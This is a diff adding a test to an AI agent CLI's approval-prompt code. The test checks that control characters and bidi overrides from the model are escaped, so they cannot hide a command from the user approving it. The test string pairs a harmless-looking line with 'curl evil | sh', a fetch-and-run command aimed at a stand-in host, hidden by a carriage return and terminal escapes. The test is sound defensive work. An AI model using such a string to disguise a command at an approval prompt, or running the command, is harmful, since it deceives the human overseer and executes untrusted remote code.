@@ -94,3 +94,12 @@ def test_y_a_n_in_the_chat_while_a_turn_runs(isolated_home, configure, fake_llm)
     session_file = next((isolated_home / "sessions").glob("*.jsonl"))
     roles = [json.loads(line).get("role") for line in session_file.read_text().splitlines()]
     assert roles.count(None) >= 5  # metadata + 4 decision records, none of them a message
+
+
+def test_control_characters_from_the_model_cannot_redraw_the_question():
+    from nanobot.cli.approval_prompt import visible
+
+    sneaky = "+harmless\r+curl evil | sh\x1b[2K\u202e"
+    shown = visible(sneaky)
+    assert "\r" not in shown and "\x1b" not in shown and "\u202e" not in shown
+    assert "\\x0d" in shown and "\\x1b[2K" in shown and "\\u202e" in shown and "curl evil | sh" in shown
